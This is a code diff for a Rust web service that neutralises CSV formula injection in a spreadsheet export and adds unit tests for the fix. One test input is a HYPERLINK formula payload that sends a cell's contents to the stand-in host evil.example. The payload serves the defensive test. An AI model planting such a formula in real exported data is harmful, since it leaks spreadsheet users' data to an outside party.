@@ -10,11 +10,19 @@ use axum::http::{header, StatusCode};
 use axum::response::{IntoResponse, Response};
 use tower_sessions::Session;
 
-fn csv_field(value: &str) -> String {
+/// One CSV cell. A value a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return) is prefixed with `'` so it shows as text (OWASP's CSV
+/// injection advice); then quoted where CSV needs it.
+pub fn csv_field(value: &str) -> String {
+    let value = if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{value}")
+    } else {
+        value.to_string()
+    };
     if value.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", value.replace('"', "\"\""))
     } else {
-        value.to_string()
+        value
     }
 }
 
@@ -80,4 +88,25 @@ pub async fn export_csv(
         body,
     )
         .into_response()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn formulas_are_neutralised_and_quoting_kept() {
+        assert_eq!(
+            csv_field(r#"=HYPERLINK("http://evil.example/?"&A2&"@a.b")@evil.example"#),
+            r#""'=HYPERLINK(""http://evil.example/?""&A2&""@a.b"")@evil.example""#
+        );
+        for formula in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(
+                csv_field(formula).trim_start_matches('"').starts_with('\''),
+                "{formula:?}"
+            );
+        }
+        assert_eq!(csv_field("ada@example.com"), "ada@example.com");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
+    }
 }
